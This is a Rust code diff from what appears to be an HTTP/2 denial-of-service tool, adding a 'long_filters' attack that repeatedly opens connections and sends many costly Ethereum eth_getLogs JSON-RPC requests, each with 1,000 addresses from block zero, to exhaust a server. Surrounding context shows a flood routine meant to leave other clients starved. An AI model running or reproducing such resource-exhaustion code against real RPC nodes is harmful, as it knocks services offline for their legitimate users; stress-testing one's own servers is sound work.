@@ -9,7 +9,7 @@ use anyhow::Result;
 
 use crate::attack::{Attack, RawConnection, send_and_receive};
 use crate::http2_frames::{
-    DATA, HEADERS, PING, SETTINGS, frame, get, post, post_head, preface, read_frame,
+    DATA, END_STREAM, HEADERS, PING, SETTINGS, frame, get, post, post_head, preface, read_frame,
 };
 
 const RST_STREAM: u8 = 3;
@@ -28,6 +28,10 @@ const STATUS_OK: u8 = 0x88;
 const STREAMS_MAX: u32 = 32;
 /// Of frames that are sent together.
 const CHUNK_COUNT: u32 = 500;
+/// Bodies of 44 KB that the window of a new connection has room for.
+const LONG_FILTERS: u32 = 22;
+/// Addresses of a filter, which a server admits at most.
+const ADDRESSES_MAX: u32 = 1000;
 /// A server that takes more of one head or of streams that are reset does not defend itself.
 const CHUNKS_MAX: u32 = 2000;
 
@@ -163,6 +167,33 @@ pub(super) fn empty_data(attack: &Attack<'_>) -> Result<()> {
 /// The same over and over, for as long as the server likes it. Every other client reads nothing.
 fn flood_all(attack: &Attack<'_>, begin: &[u8], chunk: &[u8]) -> Result<()> {
     attack.repeat(|lane| flood(attack, begin, |_| chunk.to_vec(), lane.is_multiple_of(2), None))
+}
+
+/// Filters that cost more to prepare than to answer.
+pub(super) fn long_filters(attack: &Attack<'_>) -> Result<()> {
+    let addresses: Vec<String> = (0..ADDRESSES_MAX).map(|it| format!("\"0x{it:040x}\"")).collect();
+    let body = format!(
+        r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{{"fromBlock":"0x0","address":[{}]}}]}}"#,
+        addresses.join(",")
+    );
+    let posts = streams(LONG_FILTERS).flat_map(|id| post(id, body.as_bytes()));
+    let asked: Vec<u8> = preface(&[]).into_iter().chain(posts).collect();
+    attack.repeat(|_| {
+        let mut connection = attack.connect()?;
+        connection.write_all(&asked)?;
+        let mut source = BufReader::new(&mut connection);
+        let mut left = LONG_FILTERS;
+        while left > 0 {
+            let frame = read_frame(&mut source)?;
+            if frame.kind == HEADERS && frame.payload.first() == Some(&STATUS_OK) {
+                attack.tally.count_status(200);
+            }
+            if [DATA, HEADERS].contains(&frame.kind) && frame.flags & END_STREAM != 0 {
+                left = left.saturating_sub(1);
+            }
+        }
+        Ok(())
+    })
 }
 
 fn count(count: u32) -> usize {
